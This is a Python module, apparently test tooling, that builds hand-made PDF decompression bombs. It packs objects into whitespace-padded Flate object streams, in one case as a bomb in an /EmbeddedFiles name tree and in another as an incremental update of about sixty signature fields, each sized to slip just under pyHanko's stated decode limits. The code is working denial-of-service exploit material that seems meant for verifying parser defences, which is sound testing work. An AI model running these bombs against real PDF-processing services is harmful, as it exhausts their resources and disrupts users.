"""Hand-built PDFs for attacks on the parsers: objects packed into object streams padded with whitespace
(about 1,000:1 under Flate, so a small file holds streams of tens of MB that a parser must decompress and
skip), written as a new file or as an incremental update of another one. Built byte by byte here so that
no library tidies up what the attack needs."""
from __future__ import annotations

import io
import zlib


def _deflated_padding(compressor, padding: int) -> bytes:
    piece = b" " * (1 << 20)
    out = [compressor.compress(piece) for _ in range(padding >> 20)]
    out.append(compressor.compress(b" " * (padding & ((1 << 20) - 1))))
    return b"".join(out)


def pdf_with_object_streams(objects: dict[int, bytes], *, packed: dict[int, int] | None = None,
                            padding: dict[int, int] | None = None, root: int = 1, base: bytes = b"") -> bytes:
    """`objects` ({number: body}) written as plain indirect objects, except those in `packed`
    ({number: object stream number}), which go into their object stream, whose data starts with
    padding[stream] bytes of whitespace. After `base` (a whole PDF) the result is an incremental update
    of it (its xref stream points back to base's with /Prev); otherwise a new file."""
    packed, padding = packed or {}, padding or {}
    out = io.BytesIO()
    out.write(base or b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if base and not base.endswith(b"\n"):
        out.write(b"\n")
    entries: dict[int, bytes] = {}

    def write(number: int, body: bytes) -> None:
        entries[number] = b"\x01" + out.tell().to_bytes(4, "big") + b"\x00\x00"
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    for number, body in objects.items():
        if number not in packed:
            write(number, body)
    for stream in sorted(set(packed.values())):
        members = [n for n in objects if packed.get(n) == stream]
        header, bodies = b"", b""
        for index, number in enumerate(members):
            header += b"%d %d " % (number, len(bodies))
            bodies += objects[number] + b" "
            entries[number] = b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        compressor = zlib.compressobj(9)
        data = _deflated_padding(compressor, padding.get(stream, 0)) + compressor.compress(header + bodies) + compressor.flush()
        first = padding.get(stream, 0) + len(header)
        write(stream, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (len(members), first, len(data)) + data + b"\nendstream")
    xref_number = max(entries) + 1
    xref_at = out.tell()
    entries[xref_number] = b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"
    if not base:
        entries[0] = b"\x00" * 4 + b"\x00\xff\xff"
    numbers = sorted(entries)
    index = b" ".join(b"%d 1" % n for n in numbers)
    table = zlib.compress(b"".join(entries[n] for n in numbers))
    prev = b""
    if base:
        prev = b" /Prev %d" % int(base.rsplit(b"startxref", 1)[1].split()[0])
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /Index [%s] /W [1 4 2] /Root %d 0 R%s /Filter /FlateDecode "
              b"/Length %d >>\nstream\n" % (xref_number, xref_number + 1, index, root, prev, len(table))
              + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def name_tree_bomb_pdf(*, catalogue_padding: int = (4 << 20) - 4096, leaves: int = 4, leaf_padding: int = 74 << 20) -> bytes:
    """The reviewers' verification attack: the catalogue in an object stream of just under 4 MiB of
    whitespace (what pyHanko's decode limits let through for an object stream of any size), and an /EmbeddedFiles name tree whose leaves sit in object streams of 74 MB of whitespace in all
    (about 150 KB on disk)."""
    kids = list(range(20, 20 + leaves))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        5: b"<< /Kids [" + b" ".join(b"%d 0 R" % k for k in kids) + b"] >>",
        **{k: b"<< /Limits [(a) (z)] /Names [(allegato-%d) 6 0 R] >>" % k for k in kids},
        6: b"<< /Type /Filespec /F (x) >>",
    }
    packed = {1: 100, **{k: 101 + i for i, k in enumerate(kids)}}
    padding = {100: catalogue_padding, **{101 + i: leaf_padding // leaves for i in range(leaves)}}
    return pdf_with_object_streams(objects, packed=packed, padding=padding)


def field_bomb_update(base: bytes, *, fields: int = 60, padding: int = (4 << 20) - 4096) -> bytes:
    """An incremental update of `base` (a PDF with a page tree) whose new catalogue's form lists `fields`
    signature fields, each in its own object stream of just under 4 MiB of whitespace (each stream within
    pyHanko's decode limits, the whole within its per-document budget): ~240 KB that every reader of
    the form (pyHanko's enumerate_sig_fields, embedded_signatures) must decompress and skip."""
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(base))
    pages = reader.trailer["/Root"].raw_get("/Pages").idnum
    first = int(reader.trailer["/Size"])
    field_numbers = list(range(first + 1, first + 1 + fields))
    objects = {first: b"<< /Type /Catalog /Pages %d 0 R /AcroForm << /Fields [%s] /SigFlags 3 >> >>"
               % (pages, b" ".join(b"%d 0 R" % n for n in field_numbers))}
    packed, pad = {}, {}
    for i, number in enumerate(field_numbers):
        objects[number] = b"<< /FT /Sig /T (Firma%d) >>" % i
        packed[number] = first + 1 + fields + i
        pad[packed[number]] = padding
    return pdf_with_object_streams(objects, packed=packed, padding=pad, root=first, base=base)
